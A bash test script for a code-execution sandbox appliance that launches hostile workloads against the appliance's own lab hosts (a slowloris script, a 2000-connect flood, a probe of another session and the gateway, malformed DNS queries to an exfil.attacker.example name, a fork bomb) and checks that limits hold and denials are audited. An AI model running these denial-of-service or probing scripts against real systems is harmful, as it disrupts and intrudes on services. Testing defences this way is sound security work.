#!/bin/bash
# tests/lab/hostile-flood.sh - TAP: hostile attempts that do not fit one
# corpus workload (tests/lab/hostile/): they need two sessions at once, the
# daemons' own view, or fields the corpus format cannot name.
#
# On an appliance whose proxyd has small limits (--proxyd-conf-extra):
#  - slowloris: one session holds 200 half-open HTTP heads. Its own cap
#    (max_connections_per_session 64) refuses the rest at once, audited as
#    limit_exceeded with the exact count; the 64 it got are answered 400 at
#    the sniff timeout (bad_request). Meanwhile a second session still gets
#    https://allowed.test/ served. proxyd's fds return to their baseline.
#  - a flood of 2000 connects, bounded in time: refusals audited as
#    limit_exceeded, proxyd healthy, fds back to baseline, others served.
#  - one session at another's address (TCP, UDP) and at its own gateway:
#    refused and audited exactly, and the other session receives nothing.
#  - DNS questions that do not parse (a 64-byte label, a 254-byte name):
#    FORMERR, one bad_request event with an empty host, nothing upstream.
#  - the corpus's huge result and huge output: the result error and the
#    truncation flags the corpus format cannot check; its fork bomb: not a
#    process of it left once the session has timed out.
if [ -z "${BASH_VERSION:-}" ]; then exec bash "$0" "$@"; fi
set -u

here=$(cd "$(dirname "$0")" && pwd)
# shellcheck source=lib.sh
. "$here/lib.sh"

appliance_init
CORPUS=$top_src/tests/lab/hostile
tap_plan 26

# Per session 64; all sessions together 160, so one session at its cap
# leaves room for the others. A head that never ends is answered at 12 s:
# long enough for the second session to run while the first holds its 64.
PER_SESSION=64
SNIFF_MS=12000
HEADS=200
FLOOD=2000

NAME=f$(od -An -N3 -tx1 /dev/urandom | tr -d ' \n')
T=$(mktemp -d /tmp/enclave-hostile-flood.XXXXXX)
cleanup() {
	if [ "$_TAP_FAILED" -gt 0 ] && [ -n "${D:-}" ]; then
		tap_diag "sessiond.log:"; tap_diag "$(tail -15 "$D/sessiond.log" 2>/dev/null)"
		tap_diag "proxyd.log:"; tap_diag "$(tail -15 "$D/proxyd.log" 2>/dev/null)"
	fi
	"$CTL" lab down "$NAME" >/dev/null 2>&1
	rm -rf -- "$T"
}
trap cleanup EXIT
trap 'exit 130' INT TERM HUP

cat >"$T/proxyd-extra.conf" <<EOF
max_connections 160
max_connections_per_session $PER_SESSION
sniff_timeout_ms $SNIFF_MS
EOF
appliance_up "$NAME" --proxyd-conf-extra "$T/proxyd-extra.conf"
PX=$(cat "$D/proxyd.pid")
is "proxyd runs with the extra limits (--proxyd-conf-extra)" 3 \
	"$(grep -c -E "^(max_connections 160|max_connections_per_session $PER_SESSION|sniff_timeout_ms $SNIFF_MS)\$" "$D/proxyd.conf")"

# post FILE LANG CODE WAIT [LIMITS]: a session request, POSTed; the answer
# in FILE.
post() {
	python3 -c 'import json,sys
b={"language":sys.argv[1],"code":sys.argv[2],"egress":{"allow":["allowed.test"]},
   "wait":sys.argv[3]=="1","limits":json.loads(sys.argv[4] or "{}")}
print(json.dumps(b))' "$2" "$3" "$4" "${5:-}" >"$T/req"
	api POST /v1/sessions "$T/req" >"$1.status"
	cp "$T/body" "$1"
}
# wait_phase FILE SECS PHASES: poll session FILE's id until its phase is
# one of PHASES (space-separated); FILE updated.
wait_phase() {
	local id i
	id=$(js 'd["id"]' "$1")
	for i in $(seq 1 $(($2 * 5))); do
		api GET "/v1/sessions/$id" >/dev/null
		cp "$T/body" "$1"
		case " $3 " in
		*" $(js 'd["phase"]' "$1") "*) return 0 ;;
		esac
		sleep 0.2
	done
	return 1
}
ENDED="succeeded failed timed_out killed error"
# wait_end FILE SECS: until the session ends.
wait_end() { wait_phase "$1" "$2" "$ENDED"; }
# wait_running FILE SECS: until the session runs (or already ended).
wait_running() { wait_phase "$1" "$2" "running $ENDED"; }
audit() { # SESSION-FILE OUT
	api GET "/v1/sessions/$(js 'd["id"]' "$1")/audit" >/dev/null
	cp "$T/body" "$2"
}
# denied AUDIT: "host port proto reason" for every egress_denied, sorted
# and unique (proxyd folds repeats: counts are checked apart).
denied() {
	js '"\n".join(sorted({"%s %s %s %s" % (e["data"]["host"], e["data"].get("port", "-"), e["data"]["proto"], e["data"]["reason"]) for e in d["events"] if e["type"] == "egress_denied"}))' "$1"
}
# count AUDIT REASON: the denials of REASON, folded counts included.
count() {
	js 'sum(e["data"].get("count", 1) for e in d["events"] if e["type"] == "egress_denied" and e["data"]["reason"] == "'"$2"'")' "$1"
}
# proxyd's fds but its pooled pipes, which pipes_bounded checks apart.
fds() { proc_fds "$PX" other; }
pipes_bounded() { [ "$(proc_fds "$PX" pipes)" -le "$PROXYD_PIPE_FDS_MAX" ] && echo bounded || echo "$(proc_fds "$PX" pipes) pipe fds"; }
# fds_settle BASE SECS: wait for proxyd's fd count to come back to BASE.
fds_settle() {
	local i n
	for i in $(seq 1 $(($2 * 5))); do
		n=$(fds)
		[ "$n" -le "$1" ] && break
		sleep 0.2
	done
	echo "$n"
}
# -k: allowed.test's certificate is from the lab's CA, which the sandbox
# does not hold (a public root, in real life); TLS is passed through.
CURL='t0=$(date +%s.%N); c=$(curl -sk -o /dev/null -w "%{http_code}" --max-time 20 https://allowed.test/); echo "$c $t0 $(date +%s.%N)"'

# The baseline: one allowed request first, so the resolver's socket and
# the cache are there before anything is counted.
post "$T/warm" sh "$CURL" 1
is "warm-up: https://allowed.test/ from a session" 200 "$(js 'd["stdout"].split()[0]' "$T/warm")"
BASE=$(fds_settle 1000000 1)

# --- slowloris ---------------------------------------------------------
cat >"$T/slowloris.py" <<EOF
import select, socket, time

conns, early = [], 0
for i in range($HEADS):
    try:
        s = socket.create_connection(("198.18.1.10", 80), timeout=5)
        s.sendall(b"GET / HTTP/1.1\r\nHost: allowed.test\r\nX-Slow: ")
        conns.append(s)
    except OSError:
        early += 1
opened = time.time()
print("opened %d refused_early %d at %.3f" % (len(conns), early, opened))
answered = reset = 0
first_close = None
end = time.monotonic() + $SNIFF_MS / 1000 + 20
live = list(conns)
while live and time.monotonic() < end:
    r, _, _ = select.select(live, [], [], 0.5)
    for s in r:
        try:
            d = s.recv(4096)
        except OSError:
            d = b""
        if d.startswith(b"HTTP/1.1 400 "):
            answered += 1
            if first_close is None:
                first_close = time.time()
        else:
            reset += 1
        live.remove(s)
        s.close()
print("answered400 %d reset %d open %d first400 %.3f" %
      (answered, reset, len(live), first_close or 0))
EOF
post "$T/A" python "$(cat "$T/slowloris.py")" 0 '{"timeout_ms": 60000}'
wait_running "$T/A" 30 || tap_diag "slowloris session not running: $(head -c 300 "$T/A")"
# Give it time to open its heads (they are held for SNIFF_MS).
sleep 3
post "$T/B" sh "$CURL" 1
wait_end "$T/A" 60 || tap_diag "slowloris session did not end"
audit "$T/A" "$T/A.audit"
a_out=$(js 'd["stdout"]' "$T/A")
tap_diag "slowloris: ${a_out//$'\n'/ }; second session: $(js 'd["stdout"].strip()' "$T/B")"
is "slowloris: a second session still gets https://allowed.test/ (200)" 200 \
	"$(js 'd["stdout"].split()[0]' "$T/B")"
val() { echo "$a_out" | tr ' ' '\n' | sed -n "/^$1\$/{n;p;q}"; }
b_start=$(js 'd["stdout"].split()[1]' "$T/B")
b_end=$(js 'd["stdout"].split()[2]' "$T/B")
tap_check "slowloris: ... while the first held its heads (opened $(val at), second ran $b_start-$b_end, first 400 at $(val first400))" \
	python3 -c 'import sys; o, s, e, f = map(float, sys.argv[1:]); sys.exit(not (o <= s and e <= f))' \
	"$(val at)" "$b_start" "$b_end" "$(val first400)"
is "slowloris: the session's cap held: exactly $PER_SESSION heads accepted, each answered 400 at the sniff timeout, none left open" \
	"$PER_SESSION 0" "$(val answered400) $(val open)"
is "slowloris: every refused head audited: limit_exceeded counts $((HEADS - PER_SESSION)), bad_request $PER_SESSION" \
	"$((HEADS - PER_SESSION)) $PER_SESSION" "$(count "$T/A.audit" limit_exceeded) $(count "$T/A.audit" bad_request)"
is "slowloris: the denials are exactly those two (by destination)" \
	"198.18.1.10 80 http bad_request
198.18.1.10 80 tcp limit_exceeded" "$(denied "$T/A.audit")"
n=$(fds_settle "$BASE" 30)
is "slowloris: proxyd's fds back to their baseline ($BASE, pooled pipes apart)" "$BASE bounded" "$n $(pipes_bounded)"

# --- a flood of connects -------------------------------------------------
cat >"$T/flood.py" <<EOF
import socket, time

# Paced, 150 at a time every 0.5 s (about 7 s in all), so that another
# session can run while it lasts; bounded by count and by 60 s.
t0 = time.monotonic()
start = time.time()
attempts = refused = 0
while attempts < $FLOOD and time.monotonic() - t0 < 60:
    tb = time.monotonic()
    batch = []
    for i in range(150):
        if attempts >= $FLOOD:
            break
        attempts += 1
        s = socket.socket()
        s.setblocking(False)
        s.connect_ex(("198.18.1.10", 80))
        batch.append(s)
    time.sleep(0.05)
    for s in batch:
        if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) != 0:
            refused += 1
        s.close()
    time.sleep(max(0, 0.5 - (time.monotonic() - tb)))
print("attempts %d refused %d secs %.1f from %.3f to %.3f" %
      (attempts, refused, time.monotonic() - t0, start, time.time()))
EOF
post "$T/C" python "$(cat "$T/flood.py")" 0 '{"timeout_ms": 90000}'
wait_running "$T/C" 30 || tap_diag "flood session not running"
sleep 1
post "$T/E" sh "$CURL" 1
wait_end "$T/C" 100 || tap_diag "flood session did not end"
audit "$T/C" "$T/C.audit"
tap_diag "flood: $(js 'd["stdout"].strip()' "$T/C"); beside it: $(js 'd["stdout"].strip()' "$T/E")"
is "flood: $FLOOD connects made within its 60 s bound" "succeeded $FLOOD" \
	"$(js 'd["phase"]' "$T/C") $(js 'd["stdout"].split()[1]' "$T/C")"
is "flood: a session beside it gets https://allowed.test/ (200)" 200 "$(js 'd["stdout"].split()[0]' "$T/E")"
tap_check "flood: ... while the flood went on" \
	python3 -c 'import sys; fs, fe, s, e = map(float, sys.argv[1:]); sys.exit(not (fs <= s and e <= fe))' \
	"$(js 'd["stdout"].split()[7]' "$T/C")" "$(js 'd["stdout"].split()[9]' "$T/C")" \
	"$(js 'd["stdout"].split()[1]' "$T/E")" "$(js 'd["stdout"].split()[2]' "$T/E")"
tap_check "flood: refusals audited as limit_exceeded ($(count "$T/C.audit" limit_exceeded) for $(js 'd["stdout"].split()[3]' "$T/C") refused connects seen by the workload)" \
	python3 -c 'import sys; n = int(sys.argv[1]); sys.exit(not 1 <= n <= int(sys.argv[2]))' \
	"$(count "$T/C.audit" limit_exceeded)" "$FLOOD"
is "flood: its only denials are limit_exceeded toward allowed.test's address" \
	"198.18.1.10 80 tcp limit_exceeded" "$(denied "$T/C.audit")"
n=$(fds_settle "$BASE" 30)
is "flood: proxyd's fds back to their baseline ($BASE, pooled pipes apart)" "$BASE bounded" "$n $(pipes_bounded)"
api GET /v1/health >/dev/null
is "flood: sessiond healthy, proxyd connected" True "$(js 'd["proxyd"]')"

# --- one session at another's address ----------------------------------
cat >"$T/victim.py" <<'EOF'
import select, socket, time
t = socket.socket(); t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
t.bind(("0.0.0.0", 8000)); t.listen(8)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(("0.0.0.0", 8001))
got = []
end = time.monotonic() + 25
while time.monotonic() < end:
    r, _, _ = select.select([t, u], [], [], 0.5)
    if t in r:
        c, peer = t.accept(); got.append("tcp from %s" % peer[0]); c.close()
    if u in r:
        d, peer = u.recvfrom(2048); got.append("udp from %s" % peer[0])
print("\n".join("LEAK " + g for g in got) or "received nothing")
EOF
post "$T/X" python "$(cat "$T/victim.py")" 0 '{"timeout_ms": 40000}'
wait_running "$T/X" 30 || tap_diag "victim session not running"
audit "$T/X" "$T/X.audit0"
XADDR=$(js '[e["data"]["address"] for e in d["events"] if e["type"] == "sandbox_started"][0]' "$T/X.audit0")
cat >"$T/attacker.py" <<EOF
import socket, struct
gw = None
for line in open("/proc/net/route").read().splitlines()[1:]:
    f = line.split()
    if f[1] == "00000000":
        gw = socket.inet_ntoa(struct.pack("<I", int(f[2], 16)))
print("gateway", gw)
for addr in [("$XADDR", 8000), (gw, 22)]:
    try:
        s = socket.create_connection(addr, timeout=10)
        s.sendall(b"\x00hello\r\n")
        print("tcp", addr, s.recv(100) or b"closed")
    except OSError as e:
        print("tcp", addr, type(e).__name__)
for addr in [("$XADDR", 8001), (gw, 9)]:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.settimeout(1)
    u.sendto(b"hello", addr)
    try:
        print("LEAK udp answer", u.recvfrom(100))
    except OSError as e:
        print("udp", addr, type(e).__name__)
EOF
post "$T/Y" python "$(cat "$T/attacker.py")" 1
audit "$T/Y" "$T/Y.audit"
YGW=$(js 'd["stdout"].split()[1]' "$T/Y")
tap_diag "victim at $XADDR; attacker: $(js 'd["stdout"]' "$T/Y" | tr '\n' ';')"
tap_check "two sessions: the victim has an address in the pool ($XADDR), the attacker's gateway is $YGW" \
	test -n "$XADDR" -a "${XADDR#198.19.}" != "$XADDR" -a "${YGW#198.19.}" != "$YGW"
is "two sessions: TCP and UDP to the other session and to the own gateway: refused, audited exactly" \
	"$(printf '%s\n' "$XADDR 8000 tcp blocked_range" "$XADDR 8001 udp protocol_not_allowed" \
		"$YGW 22 tcp blocked_range" "$YGW 9 udp protocol_not_allowed" | LC_ALL=C sort)" \
	"$(denied "$T/Y.audit" | LC_ALL=C sort)"
wait_end "$T/X" 40 || tap_diag "victim session did not end"
audit "$T/X" "$T/X.audit"
is "two sessions: the victim received nothing, and its audit has no egress at all" \
	"succeeded received nothing 0" \
	"$(js 'd["phase"]' "$T/X") $(js 'd["stdout"].strip()' "$T/X") $(js 'len([e for e in d["events"] if e["type"].startswith("egress")])' "$T/X.audit")"

# --- DNS questions that do not parse -------------------------------------
dns_before=$(stat -c %s "$D/dnsmasq.log")
post "$T/F" python 'import socket, struct
def ask(qname):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    s.sendto(struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + qname + struct.pack(">HH", 1, 1), ("198.18.0.2", 53))
    r, _ = s.recvfrom(512)
    return r[3] & 15
SUFFIX = b"\x05exfil\x08attacker\x07example\x00"
labels = [b"b" * 63] * 3 + [b"c" * (254 - 3 * 64 - 23)]
print(ask(b"\x40" + b"a" * 64 + SUFFIX), ask(b"".join(bytes([len(x)]) + x for x in labels) + SUFFIX))' 1
audit "$T/F" "$T/F.audit"
is "DNS: a 64-byte label and a 254-byte name are FORMERR (1 1)" "1 1" "$(js 'd["stdout"].strip()' "$T/F")"
is "DNS: audited as bad_request without a name (no question to name), nothing else" " 53 dns bad_request" "$(denied "$T/F.audit")"
is "DNS: dnsmasq never saw either" 0 \
	"$(tail -c +$((dns_before + 1)) "$D/dnsmasq.log" | grep -c -E 'aaaaaaaa|bbbbbbbb|exfil')"

# --- what the corpus format cannot check ----------------------------------
post "$T/R" python "$(cat "$CORPUS/h1b-huge-result.py")" 1 '{"timeout_ms": 60000}'
is "50 MiB result: no result, a clear error, the session succeeded" "None 1 succeeded" \
	"$(js 'd["result"]' "$T/R") $(js 'int("result over" in (d["result_error"] or ""))' "$T/R") $(js 'd["phase"]' "$T/R")"
post "$T/O" sh "$(sed -n '/^[^#]/,$p' "$CORPUS/h1b-huge-stdout.sh")" 1 '{"output_bytes": 4096, "timeout_ms": 120000}'
is "1 GiB on stdout and stderr: 4096 bytes each kept, both flagged truncated" "4096 4096 True True" \
	"$(js 'len(d["stdout"])' "$T/O") $(js 'len(d["stderr"])' "$T/O") $(js 'd["stdout_truncated"]' "$T/O") $(js 'd["stderr_truncated"]' "$T/O")"

post "$T/K" python "$(cat "$CORPUS/h1b-fork-bomb.py")" 1 '{"pids": 32, "timeout_ms": 4000}'
KID=$(js 'd["id"]' "$T/K")
left=$(find /sys/fs/cgroup -maxdepth 4 -type d -name "*$KID*" 2>/dev/null |
	while read -r cg; do cat "$cg/cgroup.procs" 2>/dev/null; done | wc -l)
is "fork bomb: timed out, and not one of its processes left in any of its cgroups" "timed_out 0" \
	"$(js 'd["phase"]' "$T/K") $left"

is "sessiond is still healthy after it all" 200 "$(api GET /v1/health)"
is "no sanitizer report in sessiond's or proxyd's log" "" \
	"$(grep -h -E 'AddressSanitizer|LeakSanitizer|runtime error:' "$D/sessiond.log" "$D/proxyd.log" | head -5)"

tap_done
